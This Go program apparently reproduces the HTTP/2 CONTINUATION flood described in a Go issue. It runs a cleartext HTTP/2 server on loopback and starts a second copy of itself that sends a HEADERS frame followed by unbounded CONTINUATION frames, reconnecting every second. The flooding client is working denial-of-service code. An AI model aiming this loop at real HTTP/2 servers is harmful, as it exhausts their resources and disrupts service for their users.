// Command http2-continuation-flood is an HTTP/2 server behind a proxy that ends TLS: it speaks HTTP/2 in the clear on a
// loopback port. The peer, the same program in a second process, begins a request whose header fields have no end.
//
// https://github.com/golang/go/issues/65051
package main

import (
	"bytes"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"wild/kit"
)

// peerEnv names the server's address for the second process.
const peerEnv = "WILD_PEER"

// A gateway counts what it answered.
type gateway struct {
	h2       http2.Server
	requests atomic.Int64
}

func (g *gateway) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	fmt.Fprintf(w, "request %d: %s\n", g.requests.Add(1), r.URL.Path)
}

// serve speaks HTTP/2 on one connection until it ends.
func serve(g *gateway, conn net.Conn) {
	defer conn.Close()
	g.h2.ServeConn(conn, &http2.ServeConnOpts{Handler: g})
}

// accept takes the connections of the proxy.
func (g *gateway) accept(listener net.Listener) {
	for {
		conn, err := listener.Accept()
		if err != nil {
			log.Fatal(err)
		}
		go serve(g, conn)
	}
}

// headerBlock encodes a request with header fields of 8 kB in all.
func headerBlock() (request, fields []byte) {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "localhost"}, {":path", "/"}} {
		encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	request = bytes.Clone(block.Bytes())
	block.Reset()
	for i := 0; block.Len() < 8<<10; i++ {
		encoder.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-item-%d", i), Value: strings.Repeat("item", 16)})
	}
	return request, block.Bytes()
}

// request sends one request: a HEADERS frame, and CONTINUATION frames as long as the server takes them.
func request(conn net.Conn, first, more []byte) error {
	go io.Copy(io.Discard, conn)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	framer := http2.NewFramer(conn, nil)
	if err := framer.WriteSettings(); err != nil {
		return err
	}
	if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first, EndStream: true}); err != nil {
		return err
	}
	for {
		if err := framer.WriteContinuation(1, false, more); err != nil {
			return err
		}
	}
}

// peer is the second process. It tries again a second after the server closed the connection, and ends with the server.
func peer(address string) {
	first, more := headerBlock()
	for {
		conn, err := net.Dial("tcp", address)
		if err != nil {
			return
		}
		if err := request(conn, first, more); err != nil {
			log.Print(err)
		}
		conn.Close()
		time.Sleep(time.Second)
	}
}

// startPeer runs this program again, with another port for its profiles.
func startPeer(address string) error {
	self, err := os.Executable()
	if err != nil {
		return err
	}
	cmd := exec.Command(self)
	cmd.Env = append(os.Environ(), peerEnv+"="+address, "WILD_ADDR=127.0.0.1:0")
	return cmd.Start()
}

func main() {
	kit.Serve()
	if address := os.Getenv(peerEnv); address != "" {
		peer(address)
		return
	}
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	if err := startPeer(listener.Addr().String()); err != nil {
		log.Fatal(err)
	}
	(&gateway{}).accept(listener)
}
